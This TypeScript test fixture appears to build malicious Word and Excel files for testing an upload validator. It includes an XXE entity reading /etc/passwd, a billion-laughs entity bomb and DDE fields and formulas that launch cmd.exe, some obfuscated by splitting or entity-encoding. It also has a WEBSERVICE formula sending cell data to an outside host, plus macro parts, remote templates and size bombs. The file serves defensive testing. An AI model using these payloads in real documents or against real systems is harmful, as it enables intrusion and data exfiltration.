import { aDocx, anXlsx, aPng, aZip, sheetParts, wordParts } from '../files';
import type { ZipPart } from '../files';
import { aPngOf } from './pictures';
import type { BadFile } from './bad-file';

const word = (...parts: ZipPart[]): Buffer => aZip([...wordParts, ...parts]);
const sheet = (...parts: ZipPart[]): Buffer => aZip([...sheetParts, ...parts]);
const document = (content: string | Buffer): Buffer => aZip([wordParts[0]!, { name: 'word/document.xml', content }]);
const worksheet = (content: string): Buffer => sheet({ name: 'xl/worksheets/sheet1.xml', content });
const relation = (type: string, target: string, more = 'TargetMode="External"'): ZipPart => ({
  name: 'word/_rels/document.xml.rels',
  content: `<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" ${more}/></Relationships>`,
});
const types = (type: string): ZipPart => ({
  name: '[Content_Types].xml',
  content: `<Types><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/><Override PartName="/word/a.xml" ContentType="${type}"/></Types>`,
});
const field = (...pieces: string[]): Buffer =>
  document(`<w:p>${pieces.map((piece) => `<w:instrText xml:space="preserve">${piece}</w:instrText>`).join('</w:r><w:r>')}</w:p>`);
const laughs = `<!DOCTYPE l [<!ENTITY a "ha">${[...'bcdefghij'].map((name, index) => `<!ENTITY ${name} "${`&${'abcdefghi'[index]};`.repeat(10)}">`).join('')}]><l>&j;</l>`;
const ole = Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(1_200)]);

export const badOffices: readonly BadFile[] = [
  [
    'a text that reads a file of the server (XXE)',
    '报告.docx',
    () => document('<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'),
    'active',
  ],
  ['a text whose entities grow without end', '报告.docx', () => document(laughs), 'active'],
  ['a text that reads in another encoding', '报告.docx', () => document(Buffer.from('\ufeff<!DOCTYPE a><a/>', 'utf16le')), 'damaged'],
  ['a text that says another encoding', '报告.docx', () => document('<?xml version="1.0" encoding="UTF-7"?><a/>'), 'damaged'],
  ['a text with macros', '报告.docx', () => word({ name: 'word/vbaProject.bin', content: 'x' }), 'active'],
  ['a text with macros in capitals', '报告.docx', () => word({ name: 'WORD/VBAPROJECT.BIN', content: 'x' }), 'active'],
  ['a text with macros behind a backslash', '报告.docx', () => word({ name: 'word\\vbaProject.bin', content: 'x' }), 'active'],
  [
    'a text with macros under another name',
    '报告.docx',
    () => aZip([types('application/vnd.ms-office.vbaProject'), wordParts[1]!, { name: 'word/a.xml', content: '<a/>' }]),
    'active',
  ],
  [
    'a text with macros by its type, spelt out',
    '报告.docx',
    () => aZip([types('application/vnd.ms-word.document.macro&#69;nabled.main+xml'), wordParts[1]!]),
    'active',
  ],
  ['a table with old macros', '附表.xlsx', () => sheet({ name: 'xl/macrosheets/sheet1.xml', content: '<a/>' }), 'active'],
  ['a table with a dialogue', '附表.xlsx', () => sheet({ name: 'xl/dialogsheets/sheet1.xml', content: '<a/>' }), 'active'],
  ['a text with a control', '报告.docx', () => word({ name: 'word/activeX/activeX1.xml', content: '<a/>' }), 'active'],
  ['a text with an embedded object', '报告.docx', () => word({ name: 'word/embeddings/oleObject1.bin', content: 'x' }), 'nested'],
  ['a text with an object as a picture', '报告.docx', () => word({ name: 'word/media/image1.png', content: ole }), 'nested'],
  [
    'a text with a program as a picture',
    '报告.docx',
    () => word({ name: 'word/media/image1.jpg', content: Buffer.from('MZ\x90\0\x03') }),
    'nested',
  ],
  ['a text with a script beside', '报告.docx', () => word({ name: 'word/run.ps1', content: 'x' }), 'nested'],
  ['a text whose template lies elsewhere', '报告.docx', () => word(relation('attachedTemplate', 'http://example.org/a.dotm')), 'external'],
  ['a text whose picture lies elsewhere', '报告.docx', () => word(relation('image', 'http://example.org/a.png')), 'external'],
  [
    'a text whose picture lies elsewhere, spelt out',
    '报告.docx',
    () => word(relation('image', 'http://example.org/a.png', 'TargetMode="Ext&#101;rnal"')),
    'external',
  ],
  ['a text that links a file of the reader', '报告.docx', () => word(relation('hyperlink', 'file:///C:/Windows/a.exe')), 'external'],
  ['a text that links a share', '报告.docx', () => word(relation('hyperlink', '\\\\example.org\\a')), 'external'],
  ['a text with a frame from elsewhere', '报告.docx', () => word(relation('frame', 'http://example.org/')), 'external'],
  ['a text that takes in a page', '报告.docx', () => word(relation('aFChunk', 'a.html', '')), 'external'],
  ['a table that draws on another', '附表.xlsx', () => sheet({ name: 'xl/externalLinks/externalLink1.xml', content: '<a/>' }), 'external'],
  ['a table that draws on a database', '附表.xlsx', () => sheet({ name: 'xl/connections.xml', content: '<a/>' }), 'external'],
  ['a text that starts a program (DDE)', '报告.docx', () => field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'), 'active'],
  ['a text that starts a program in pieces', '报告.docx', () => field('D', 'DE', 'AUTO', ' cmd "/k calc"'), 'active'],
  ['a text that starts a program, spelt out', '报告.docx', () => field('&#68;&#x44;E cmd "/k calc"'), 'active'],
  ['a text that starts a program by a short field', '报告.docx', () => document(`<w:fldSimple w:instr='DDE cmd "/k calc"'/>`), 'active'],
  ['a table that starts a program', '附表.xlsx', () => worksheet("<worksheet><c><f>cmd|'/C calc'!A0</f></c></worksheet>"), 'active'],
  [
    'a table that starts a program, spelt out',
    '附表.xlsx',
    () => worksheet('<worksheet><c><f>cmd&#124;&apos;/C calc&apos;!A0</f></c></worksheet>'),
    'active',
  ],
  [
    'a table that calls out',
    '附表.xlsx',
    () => worksheet('<worksheet><c><f>WEBSERVICE("http://example.org/"&amp;A1)</f></c></worksheet>'),
    'active',
  ],
  ['a table of 16 thousand million cells', '附表.xlsx', () => worksheet('<worksheet><dimension ref="A1:XFD1048576"/></worksheet>'), 'bomb'],
  [
    'a table of a thousand million texts',
    '附表.xlsx',
    () => sheet({ name: 'xl/sharedStrings.xml', content: '<sst count="1" uniqueCount="1000000000"></sst>' }),
    'bomb',
  ],
  [
    'a text with a picture of 40,000 × 40,000',
    '报告.docx',
    () => word({ name: 'word/media/image1.png', content: aPngOf(40_000, 40_000) }),
    'bomb',
  ],
  ['a table under the name of a text', '报告.docx', anXlsx, 'type'],
  ['a text under the name of a table', '附表.xlsx', aDocx, 'type'],
  ['a plain archive under the name of a text', '报告.docx', () => aZip([{ name: 'readme.xml', content: '<a/>' }]), 'type'],
  [
    'a text whose types do not say so',
    '报告.docx',
    () => aZip([{ name: '[Content_Types].xml', content: '<Types/>' }, wordParts[1]!]),
    'type',
  ],
  ['an encrypted text (or one of before 2007)', '报告.docx', () => ole, 'encrypted'],
  ['an encrypted table', '附表.xlsx', () => ole, 'encrypted'],
  ['a picture under the name of a table', '附表.xlsx', aPng, 'type'],
];
